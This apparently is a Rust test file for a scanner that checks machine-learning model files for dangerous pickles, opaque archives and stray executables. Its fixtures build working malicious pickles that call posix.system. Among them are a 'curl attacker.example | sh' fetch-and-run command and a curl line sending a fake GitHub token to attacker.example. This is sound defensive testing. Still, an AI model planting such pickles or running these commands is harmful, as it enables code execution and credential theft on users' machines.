//! Model files: what is found in them, what is read of them, and what is never printed.

use std::fs::{self, File};
use std::io::{Seek as _, SeekFrom, Write as _};
use std::process::Stdio;

use crate::support::{Folder, Ran};

/// Scans with the built-in rules.
fn scan<'a>(folder: &Folder, arguments: impl IntoIterator<Item = &'a str>) -> Ran {
    folder.run(["scan", "--isolated"].into_iter().chain(arguments))
}

/// A pickle that calls `posix.system` with `argument`.
fn calls_system(argument: &str) -> Vec<u8> {
    let mut pickle = b"\x80\x02cposix\nsystem\nX".to_vec();
    pickle.extend(u32::try_from(argument.len()).unwrap().to_le_bytes());
    pickle.extend(argument.as_bytes());
    pickle.extend(b"\x85R.");
    pickle
}

/// A zip archive of stored members; sizes are written and data may be a hole.
struct Zip {
    file: File,
    directory: Vec<u8>,
    members: u16,
}

impl Zip {
    fn new(path: &std::path::Path) -> Self {
        Self {
            file: File::create(path).unwrap(),
            directory: Vec::new(),
            members: 0,
        }
    }

    fn member(&mut self, name: &str, data: &[u8], size: u32) {
        let at = u32::try_from(self.file.stream_position().unwrap()).unwrap();
        let mut fields = vec![0; 10];
        fields.extend(0u32.to_le_bytes());
        fields.extend(size.to_le_bytes());
        fields.extend(size.to_le_bytes());
        fields.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        if data.len() as u64 == u64::from(size) {
            fields[10..14].copy_from_slice(&crc32(data).to_le_bytes());
        }
        // Version, flags, method, time, date.
        self.file.write_all(b"PK\x03\x04").unwrap();
        self.file.write_all(&fields).unwrap();
        self.file.write_all(&[0, 0]).unwrap();
        self.file.write_all(name.as_bytes()).unwrap();
        self.file.write_all(data).unwrap();
        self.file
            .seek(SeekFrom::Current(i64::from(size) - i64::try_from(data.len()).unwrap()))
            .unwrap();
        self.directory.extend(b"PK\x01\x02\0\0");
        self.directory.extend(&fields);
        self.directory.extend([0; 12]);
        self.directory.extend(at.to_le_bytes());
        self.directory.extend(name.as_bytes());
        self.members += 1;
    }

    fn finish(mut self) {
        let at = u32::try_from(self.file.stream_position().unwrap()).unwrap();
        self.file.write_all(&self.directory).unwrap();
        self.file.write_all(b"PK\x05\x06\0\0\0\0").unwrap();
        for _ in 0..2 {
            self.file.write_all(&self.members.to_le_bytes()).unwrap();
        }
        let size = u32::try_from(self.directory.len()).unwrap();
        self.file.write_all(&size.to_le_bytes()).unwrap();
        self.file.write_all(&at.to_le_bytes()).unwrap();
        self.file.write_all(&[0, 0]).unwrap();
    }
}

fn crc32(data: &[u8]) -> u32 {
    !data.iter().fold(u32::MAX, |mut crc, byte| {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
        }
        crc
    })
}

#[test]
fn what_would_run_is_shown() {
    let folder = Folder::new();
    fs::write(
        folder.path().join("model.pkl"),
        calls_system("curl attacker.example | sh"),
    )
    .unwrap();

    scan(&folder, ["."])
        .exits_with(1)
        .prints("weights/pickle-gadget")
        .prints("posix.system(\"curl attacker.example | sh\")");
}

#[test]
fn a_credential_in_an_argument_does_not_leave() {
    let secret = weighbridge_rules::fill("{{fake:github-crc32:ghp_}}").unwrap();
    let folder = Folder::new();
    let argument = format!("curl -H 'Authorization: token {secret}' https://attacker.example");
    fs::write(folder.path().join("model.pkl"), calls_system(&argument)).unwrap();

    for format in ["text", "json", "sarif-full", "html", "markdown", "junit", "gitlab-sast"] {
        let ran = scan(&folder, [".", "--format", format])
            .exits_with(1)
            .prints("attacker.example");
        assert!(!ran.stdout.contains(&secret), "{format}");
    }
    let ran = folder
        .run(["explain-file", "model.pkl"])
        .exits_with(1)
        .prints("posix.system");
    assert!(!ran.stdout.contains(&secret));
}

#[test]
fn two_gigabytes_of_tensors_are_passed_over() {
    let folder = Folder::new();
    let mut zip = Zip::new(&folder.path().join("model.pt"));
    let state = b"\x80\x02ccollections\nOrderedDict\n)R.";
    zip.member("archive/data.pkl", state, u32::try_from(state.len()).unwrap());
    for index in 0..100 {
        zip.member(&format!("archive/data/{index}"), &[], 21_474_836);
    }
    zip.member("archive/version", b"3\n", 2);
    zip.finish();

    let ran = scan(&folder, [".", "--format", "json"]).exits_with(0);

    let bytes = ran.json()["summary"]["bytes"].as_u64().unwrap();
    assert!(bytes < 256 << 10, "{bytes} bytes were read");
}

#[test]
fn a_pickle_that_is_text_is_found_under_any_name() {
    let folder = Folder::new();
    folder.write("README.txt", "cos\nsystem\n(S'id'\ntR.");

    scan(&folder, ["."]).exits_with(1).prints("os.system(\"id\")");
}

#[test]
fn a_pickle_through_standard_input_is_found() {
    let folder = Folder::new();

    let mut child = folder
        .command()
        .args(["scan", "--isolated", "-", "--stdin-filename", "model.pkl"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&calls_system("id")).unwrap();

    Ran::of(child.wait_with_output().unwrap())
        .exits_with(1)
        .prints("posix.system(\"id\")");
}

#[test]
fn what_a_file_says_of_itself_suppresses_nothing() {
    let folder = Folder::new();
    let argument = "id # weighbridge: ignore[weights/pickle-gadget] this is fine";
    fs::write(folder.path().join("model.pkl"), calls_system(argument)).unwrap();

    scan(&folder, ["."]).exits_with(1).prints("weights/pickle-gadget");
}

#[test]
fn what_cannot_be_looked_into_is_never_clean() {
    let folder = Folder::new();
    fs::write(folder.path().join("model.7z"), b"7z\xbc\xaf\x27\x1c\0\x04 and more").unwrap();
    scan(&folder, ["model.7z"])
        .exits_with(1)
        .prints("weights/opaque-archive");

    fs::write(folder.path().join("model.pkl"), [0xc3, 0, 1, 2, 0xff, 0xfe, 7, 7]).unwrap();
    scan(&folder, ["model.pkl"]).exits_with(3).prints("file/not-inspected");
}

#[test]
fn a_program_beside_weights_is_out_of_place_and_elsewhere_it_is_not() {
    let folder = Folder::new();
    fs::create_dir(folder.path().join("model")).unwrap();
    let program = b"\x7fELF\x02\x01\x01\0\0\0\0\0";
    fs::write(folder.path().join("model/helper"), program).unwrap();
    scan(&folder, ["."]).exits_with(0);

    fs::write(folder.path().join("model/a.safetensors"), b"\x08\0\0\0\0\0\0\0{}      ").unwrap();
    scan(&folder, ["."])
        .exits_with(1)
        .prints("weights/executable")
        .prints("helper");
}

#[test]
fn only_weights_can_be_demanded() {
    let folder = Folder::new();
    let module = b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81.";
    fs::write(folder.path().join("model.pkl"), module).unwrap();

    scan(&folder, ["."]).exits_with(0);
    scan(&folder, [".", "--select", "weights/pickle-beyond-weights-only"])
        .exits_with(1)
        .prints("torch.nn.modules.linear.Linear");
}

#[test]
fn model_files_are_scanned_alike_by_one_and_by_many() {
    let folder = Folder::new();
    for index in 0..40 {
        fs::write(
            folder.path().join(format!("{index}.pkl")),
            calls_system(&format!("id {index}")),
        )
        .unwrap();
    }

    let one = scan(&folder, [".", "--format", "json", "--jobs", "1"]).exits_with(1);
    let many = scan(&folder, [".", "--format", "json", "--jobs", "8"]).exits_with(1);

    assert_eq!(one.stdout, many.stdout);
}

/// Small files that the real libraries wrote, see `tests/models/make_corpus.py`.
#[test]
fn ordinary_files_of_libraries_are_clean() {
    let folder = Folder::new();
    let ordinary = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/models/ordinary");

    let ran = scan(&folder, [ordinary, "--format", "json"]).exits_with(0);

    assert!(ran.json()["summary"]["files"].as_u64().unwrap() > 80);
}
